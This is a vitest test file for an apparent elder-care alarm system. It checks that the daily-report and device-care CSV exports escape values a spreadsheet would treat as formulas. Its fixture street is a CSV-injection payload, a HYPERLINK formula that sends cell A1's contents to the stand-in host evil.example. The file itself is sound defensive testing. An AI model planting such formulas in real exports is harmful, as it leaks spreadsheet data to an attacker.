import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { eventually } from '../support/mqtt.ts'
import { ADMIN_TOKEN, startWorld, type World } from '../support/world.ts'

/**
 * The CSV files the shipped flows write (daily report, device-care list) open in a spreadsheet as text:
 * a street or an id that a spreadsheet would run as a formula gets a leading `'`; numbers stay numbers
 * (docs/decisions.md, CSV formula injection).
 */

const DAY = 86_400_000
const street = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
let world: World

beforeAll(async () => {
  world = await startWorld({ env: { CARE_FLOWS: 'on' } })
  await world.app.surface.flows.ready
  expect((await world.app.surface.health()).flows.status).toBe('up')
  await world.elder('-E01', { grid: [street, '东关社区', 'G03'] })
  const device = await world.api('PUT', '/api/v1/devices/-cmd01', {
    kind: 'terminal',
    elderId: '-E01',
    secret: 'secret--cmd01',
  })
  expect(device.status).toBe(201)
  const raised = await world.api('POST', '/api/v1/alarms', { elderId: '-E01' })
  expect(raised.status).toBe(201)
}, 60_000)

afterAll(async () => {
  await world?.stop()
})

/** Runs a flow from its inject node, as the editor's button does, and reads the CSV it writes. */
async function run(inject: string, file: string): Promise<string[][]> {
  const res = await fetch(`http://127.0.0.1:${world.app.httpPort}/flows/inject/${inject}`, {
    method: 'POST',
    headers: { authorization: `Bearer ${ADMIN_TOKEN}` },
  })
  expect(res.status).toBe(200)
  const path = join(world.dataDir, 'reports', file)
  await eventually(() => existsSync(path) && readFileSync(path, 'utf8').endsWith('\n'), 10_000, file)
  return parse(readFileSync(path, 'utf8')) as string[][]
}

const localDay = (at: number) => {
  const d = new Date(at)
  return `${d.getFullYear()}-${String(d.getMonth() + 1).padStart(2, '0')}-${String(d.getDate()).padStart(2, '0')}`
}

describe('the flows’ CSV files', () => {
  it('write a street that looks like a formula as text, and its numbers as numbers', async () => {
    const day = localDay(world.clock.now())
    world.clock.set(world.clock.now() + DAY) // the report covers yesterday
    const rows = await run('rep.run', `daily-${day}.csv`)
    expect(rows[0]?.[0]).toBe('street')
    expect(rows[1]?.[0]).toBe(`'${street}`)
    // one alarm yesterday, escalated (no carer), none accepted: the numbers are bare
    expect(rows[1]?.slice(1, 3)).toEqual(['1', ''])
  }, 20_000)

  it('write ids that start with a minus as text', async () => {
    world.clock.set(world.clock.now() + 8 * DAY) // never heard, never tested: on the list
    const rows = await run('dev.run', `device-care-${localDay(world.clock.now())}.csv`)
    expect(rows[0]).toEqual(['deviceId', 'elderId', 'kind', 'reasons', 'lastSeenAt', 'lastTestAt'])
    expect(rows[1]?.slice(0, 4)).toEqual(["'-cmd01", "'-E01", 'terminal', 'silent untested'])
  }, 20_000)
})
